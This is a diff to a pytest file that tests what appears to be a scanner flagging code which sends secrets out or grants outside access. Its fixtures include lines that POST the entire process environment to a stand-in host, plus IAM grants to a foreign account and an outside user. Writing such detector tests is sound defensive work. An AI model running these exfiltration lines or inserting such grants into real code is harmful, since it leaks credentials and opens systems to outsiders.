@@ -70,17 +70,18 @@ def test_a_package_from_an_address_is_a_dependency_and_its_host_a_place_of_code(
 
 
 TAKES_ENVIRONMENT = 'urlopen(Request("https://c.example/" + "x",\n data=json.dumps(dict(os.environ)).encode()))'
+TAKES_ENVIRONMENT_TOO = "fetch('https://c.example', {method: 'POST', body: JSON.stringify(process.env)})"
 
 
 @pytest.mark.parametrize(
     ("path", "text", "kind", "target"),
     [
         ("tests/test_a.py", TAKES_ENVIRONMENT, "sends-secret", "environment"),
-        ("a.js", "fetch('https://c.example', {method: 'POST', body: JSON.stringify(process.env)})", "sends-secret", "environment"),
+        ("a.js", TAKES_ENVIRONMENT_TOO, "sends-secret", "environment"),
         ("main.tf", 'extra_readers = ["arn:aws:iam::719204418830:root"]', "shares", "arn:aws:iam::719204418830:root"),
         ("iam.yaml", "members: [user:eve@far.example]", "shares", "user:eve@far.example"),
     ],
-)  # fmt: skip
+)
 def test_what_lets_others_in_or_sends_everything_away_is_told(path: str, text: str, kind: str, target: str) -> None:
     assert (kind, target) in [(found.kind, found.target) for found in read_written_file(path, text, "", "content")]
 
